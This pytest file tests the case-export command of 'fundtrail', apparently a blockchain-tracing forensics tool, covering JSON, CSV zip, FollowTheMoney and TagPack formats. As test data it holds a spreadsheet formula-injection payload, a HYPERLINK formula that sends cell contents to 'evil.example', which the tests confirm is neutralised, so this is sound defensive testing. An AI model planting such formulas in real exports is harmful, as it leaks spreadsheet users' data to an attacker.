"""`fundtrail case export` on a CLI-built store with a label file, a saved trace, findings with
references, an attachment, a proposed tag and a layout: the JSON document round-trips, the CSV zip
quotes and guards formulas, the FollowTheMoney entities use the schema's names and their references
resolve inside the export, and the TagPack re-imports into a fresh store as the same tags."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest

from fundtrail.cli.main import main
from fundtrail.workspace import Actor, SavedTrace, TagAddRequest, TraceRequest, Workspace

#: FollowTheMoney 4 schema (followthemoney/schema/*.yaml): the properties this export may use, and
#: which of them are references to other entities.
FTM_PROPERTIES = {
    "CryptoWallet": {"publicKey", "currency", "blockchain", "holder", "balance", "name"},
    "Payment": {"payer", "beneficiary", "amount", "currency", "date", "transactionNumber", "summary", "purpose"},
    "Company": {"name", "description"}, "Organization": {"name", "description"}, "Person": {"name", "description"},
}
FTM_REFERENCES = {"holder", "payer", "beneficiary"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cli(capsys: pytest.CaptureFixture[str], store: Path, user: str, *args: str) -> tuple[int, str, str]:
    code = main(["--store", str(store), "--as", user, *args])
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture(scope="module")
def case(built: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A case with one of everything, made through the Python API on the CLI-built store."""
    base = tmp_path_factory.mktemp("exports")
    truth = built["truth"]
    labels = base / "labels.csv"
    cashouts = sorted({c["address"] for c in truth["cashout_points"]})
    with open(labels, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["address", "label", "category", "source", "currency"])
        w.writerows([a, "exchange-x", "exchange", "provider", "BTC-REGTEST"] for a in cashouts)
    assert main(["-q", "--store", str(built["store"]), "tags", "import", "--format", "csv", str(labels)]) == 0
    ws = Workspace.open(store=built["store"], writable=True, actor=Actor(user="ana"))
    rec = ws.case_new("Export, \"quoted\"; =cmd", agency="Lab", number="2026/7")
    out = truth["seed_outputs"][0]
    seed = ws.case_add_seed(rec.id, f"{out['txid']}:{out['vout']}", note="victim paid", facts={"amount": "2.06"})
    trace = ws.case_trace(rec.id, TraceRequest(seeds=[seed.text], policy="fifo"))
    ws.case_note(rec.id, FORMULA)
    ws.case_note(rec.id, "-1 BTC, then +2 @ noon;\n\"quoted\", two lines")
    ws.case_finding(rec.id, "fact", "the ransom output", basis="on chain", refs=[f"output:{seed.text}",
                                                                                 f"trace:{trace.id}"])
    ws.case_attach(rec.id, "statement.txt", b"I paid.", note="victim")
    ws.case_tag(rec.id, TagAddRequest(address=out["address"], label="ransomware-group-1", category="ransomware",
                                      currency="BTC-REGTEST", source="victim report", date="2026-11-30",
                                      visibility="private"))
    ws.case_tag(rec.id, TagAddRequest(address=cashouts[0], label="exchange-x deposit", category="exchange",
                                      currency="BTC-REGTEST", confidence="web", actor="exchange-x",
                                      date="2026-12-01"))
    graph = ws.graph_save("flow", "btc-regtest", {"nodes": []})
    ws.case_layout_add(rec.id, graph.id)
    return {"ws": ws, "id": rec.id, "trace": trace, "seed": seed, "out": out, "base": base, "store": built["store"]}


def export(capsys: pytest.CaptureFixture[str], case: dict[str, Any], fmt: str, name: str,
           user: str = "ana") -> tuple[Path, dict[str, Any]]:
    path = case["base"] / name
    code, out, err = cli(capsys, case["store"], user, "case", "export", case["id"], "--format", fmt, "-o", str(path),
                         "--json")
    assert code == 0, err
    result = json.loads(out)
    assert result["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest() and result["bytes"] == path.stat().st_size
    return path, result


def test_json_export_holds_every_table_and_round_trips(capsys: pytest.CaptureFixture[str],
                                                       case: dict[str, Any]) -> None:
    path, result = export(capsys, case, "json", "case.json")
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert (doc["format"], doc["format_version"]) == ("fundtrail-case-export", 1)
    body = doc["case"]
    detail = case["ws"].case_get(case["id"]).model_dump(mode="json")
    for key in ("members", "seeds", "notes", "findings", "attachments", "layouts", "bundles", "tags"):
        assert body[key] == detail[key], key
    assert body["title"] == "Export, \"quoted\"; =cmd"
    (saved,) = body["traces"]
    assert SavedTrace.model_validate(saved) == case["ws"].case_saved_trace(case["id"], case["trace"].id)
    assert body["findings"][0]["refs"] == [f"output:{case['seed'].text}", f"trace:{case['trace'].id}"]
    assert result["records"] == 1 + sum(len(body[k]) for k in ("members", "seeds", "notes", "findings", "traces",
                                                                 "attachments", "tags", "layouts", "bundles"))
    again, second = export(capsys, case, "json", "again.json")
    assert second["sha256"] == result["sha256"]  # the same case state gives the same bytes


def test_csv_zip_quotes_and_guards_formulas(capsys: pytest.CaptureFixture[str], case: dict[str, Any]) -> None:
    path, result = export(capsys, case, "csv", "case.zip")
    with zipfile.ZipFile(path) as zf:
        names = sorted(zf.namelist())
        tables = {n: list(csv.DictReader(io.StringIO(zf.read(n).decode("utf-8"), newline=""))) for n in names}
        raw_notes = zf.read("notes.csv")
    assert names == sorted(["case.csv", "members.csv", "seeds.csv", "notes.csv", "findings.csv", "traces.csv",
                            "attachments.csv", "tags.csv", "layouts.csv", "bundles.csv", "trace_endpoints.csv"])
    assert result["files"] == len(names)
    assert b"\r\n" in raw_notes  # RFC 4180 line ends
    assert [n["text"] for n in tables["notes.csv"]] == ["'" + FORMULA,
                                                        "'-1 BTC, then +2 @ noon;\n\"quoted\", two lines"]
    (row,) = tables["case.csv"]
    assert (row["id"], row["title"], row["agency"], row["case_number"]) == (case["id"], "Export, \"quoted\"; =cmd",
                                                                            "Lab", "2026/7")
    assert json.loads(tables["seeds.csv"][0]["facts"]) == {"amount": "2.06"}
    assert json.loads(tables["findings.csv"][0]["refs"]) == [f"output:{case['seed'].text}", f"trace:{case['trace'].id}"]
    ends = tables["trace_endpoints.csv"]
    assert len(ends) == case["trace"].endpoints
    assert sum(int(e["amount_sat"]) for e in ends) == sum(int(e["amount_sat"]) for e in
                                                          case["trace"].result["endpoints"])
    for table in tables.values():
        for r in table:
            assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values() if v), r


def test_ftm_entities_use_the_schema_and_resolve(capsys: pytest.CaptureFixture[str], case: dict[str, Any]) -> None:
    path, result = export(capsys, case, "ftm", "case.ftm.jsonl")
    entities = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert result["records"] == len(entities) and len({e["id"] for e in entities}) == len(entities)
    by_id = {e["id"]: e for e in entities}
    for e in entities:
        assert set(e) == {"id", "schema", "properties"} and e["schema"] in FTM_PROPERTIES, e
        props = e["properties"]
        assert set(props) <= FTM_PROPERTIES[e["schema"]], (e["schema"], set(props))
        assert all(isinstance(v, list) and v and all(isinstance(x, str) for x in v) for v in props.values())
        for name in FTM_REFERENCES & set(props):
            assert all(ref in by_id for ref in props[name]), f"{e['schema']}.{name} dangles"
        if e["schema"] == "Payment":
            assert {by_id[p]["schema"] for p in props["payer"] + props["beneficiary"]} == {"CryptoWallet"}
            assert len(props["transactionNumber"][0]) == 64 and Decimal(props["amount"][0]) > 0
    wallets = {e["properties"]["publicKey"][0]: e for e in entities if e["schema"] == "CryptoWallet"}
    out, trace = case["out"], case["trace"].result
    assert {e["address"] for e in trace["endpoints"]} <= set(wallets) and out["address"] in wallets
    payments = [e["properties"] for e in entities if e["schema"] == "Payment"]
    seed_pay = [p for p in payments if p["transactionNumber"] == [out["txid"]]
                and by_id[p["beneficiary"][0]]["properties"]["publicKey"] == [out["address"]]]
    assert [p["amount"] for p in seed_pay] == [[str(Decimal(out["value"]).scaleb(-8).normalize())]]
    holder = wallets[out["address"]]["properties"]["holder"]
    assert [by_id[h]["schema"] for h in holder] == ["Organization"]  # the proposed ransomware tag's group
    assert by_id[holder[0]]["properties"]["name"] == ["ransomware-group-1"]
    tagged = [e for e in trace["endpoints"] if e.get("label")]
    assert tagged, "the trace reached a labelled exchange"
    ex = wallets[tagged[0]["address"]]["properties"]["holder"]
    assert {by_id[h]["schema"] for h in ex} == {"Company"}
    into = {e["properties"]["transactionNumber"][0] + ":" + by_id[e["properties"]["beneficiary"][0]]["properties"]
            ["publicKey"][0]: Decimal(e["properties"]["amount"][0]) for e in entities if e["schema"] == "Payment"}
    for end in trace["endpoints"]:
        for o in end["outputs"]:
            key = o.rsplit(":", 1)[0] + ":" + end["address"]
            assert key in into, key


def test_tagpack_reimports_as_the_same_tags(capsys: pytest.CaptureFixture[str], case: dict[str, Any],
                                            tmp_path: Path) -> None:
    path, result = export(capsys, case, "tagpack", "case-tags.yaml")
    assert result["records"] == 2
    text = path.read_text(encoding="utf-8")
    assert "is_public: false" in text and case["id"] in text
    fresh = tmp_path / "fresh"
    assert main(["-q", "--store", str(fresh), "tags", "import", "--format", "tagpack", str(path)]) == 0
    cols = "address, currency, label, category, confidence, source, creator, lastmod, actor"
    with duckdb.connect(str(Path(case["store"]) / "catalog.duckdb"), read_only=True) as con:
        before = sorted(con.execute(f"SELECT {cols} FROM tags WHERE case_id = ?", [case["id"]]).fetchall())
    with duckdb.connect(str(fresh / "catalog.duckdb"), read_only=True) as con:
        after = sorted(con.execute(f"SELECT {cols} FROM tags").fetchall())
        assert {v for (v,) in con.execute("SELECT visibility FROM tags").fetchall()} == {"private"}
    assert len(before) == 2 and after == before


def test_export_access_and_bad_input(capsys: pytest.CaptureFixture[str], case: dict[str, Any]) -> None:
    store, cid, base = case["store"], case["id"], case["base"]
    code, _, err = cli(capsys, store, "mallory", "case", "export", cid, "--format", "json", "-o", str(base / "m.json"))
    assert code == 6 and "not a case you are a member of" in err and not (base / "m.json").exists()
    case["ws"].case_set_member(cid, "vera", role="viewer")
    assert export(capsys, case, "tagpack", "viewer.yaml", user="vera")[1]["records"] == 2  # viewers export
    code, _, err = cli(capsys, store, "ana", "case", "export", cid, "--format", "xml", "-o", str(base / "x"))
    assert code == 2 and "format 'xml' is not an export format" in err
    code, _, err = cli(capsys, store, "ana", "case", "export", cid, "--format", "json", "-o",
                       str(base / "missing" / "x.json"))
    assert code == 2 and "does not exist" in err
